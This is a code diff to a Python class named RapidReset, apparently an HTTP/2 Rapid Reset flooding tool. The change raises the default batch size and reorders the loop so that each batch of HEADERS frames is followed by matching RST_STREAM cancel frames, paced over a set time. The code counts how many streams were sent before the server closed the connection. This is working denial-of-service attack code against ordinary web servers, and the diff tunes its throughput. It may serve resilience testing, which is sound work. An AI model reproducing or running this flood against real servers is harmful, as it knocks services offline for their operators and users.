@@ -70,16 +70,16 @@ class RapidReset:
             pass
         self.closed = True
 
-    def flood(self, streams: int, seconds: float, batch: int = 100) -> int:
-        """Open and cancel ``streams`` streams over ``seconds``; how many were sent before the server closed."""
+    def flood(self, streams: int, seconds: float, batch: int = 200) -> int:
+        """Open and cancel ``streams`` streams over ``seconds``, ``batch`` at a time (each batch's streams opened,
+        then reset); how many were sent before the server closed."""
         stream, sent, began = 1, 0, time.monotonic()
         cancel = struct.pack(">I", CANCEL)
         try:
             while sent < streams and not self.closed:
                 ids = range(stream, stream + 2 * batch, 2)
-                self.sock.sendall(
-                    b"".join(frame(HEADERS, END_HEADERS, i, self.block) + frame(RST_STREAM, 0, i, cancel) for i in ids)
-                )
+                opened = b"".join(frame(HEADERS, END_HEADERS, i, self.block) for i in ids)
+                self.sock.sendall(opened + b"".join(frame(RST_STREAM, 0, i, cancel) for i in ids))
                 stream, sent = stream + 2 * batch, sent + batch
                 ahead = began + seconds * sent / streams - time.monotonic()
                 if ahead > 0:
